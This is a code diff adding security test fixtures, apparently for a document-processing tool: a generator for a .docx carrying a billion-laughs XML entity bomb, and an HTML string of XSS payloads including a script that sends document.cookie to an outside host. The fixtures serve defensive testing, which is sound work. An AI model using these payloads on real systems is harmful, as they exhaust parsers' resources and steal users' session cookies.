@@ -145,3 +145,26 @@ def make_zip_bomb() -> bytes:
             for _ in range(300):
                 member.write(chunk)
     return out.getvalue()
+
+
+def make_entity_bomb_docx() -> bytes:
+    """A real .docx whose document.xml declares a billion-laughs entity (a 10^9-character expansion)."""
+    source = zipfile.ZipFile(io.BytesIO(make_docx()))
+    entities = '<!ENTITY lol0 "lol">' + "".join(
+        f'<!ENTITY lol{k} "{("&lol%d;" % (k - 1)) * 10}">' for k in range(1, 10))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "word/document.xml":
+                head, _, body = data.partition(b"?>")
+                data = (head + b"?>" + f"<!DOCTYPE w:document [{entities}]>".encode() + body).replace(
+                    b"Everything went well.", b"&lol9;")
+            archive.writestr(item, data)
+    return out.getvalue()
+
+
+# Scripts, event handlers and javascript: links: none of it may reach a segment, all of it comes back as it was.
+HOSTILE_HTML = ('<p onclick="alert(\'click\')">Hello <img src=x onerror="steal(document.cookie)"> there '
+                '<a href="javascript:evil()">link</a></p><script>fetch("//x/?" + document.cookie)</script>'
+                '<svg onload="pwn()"><text>svg text</text></svg><style>body{background:url(javascript:x)}</style>')
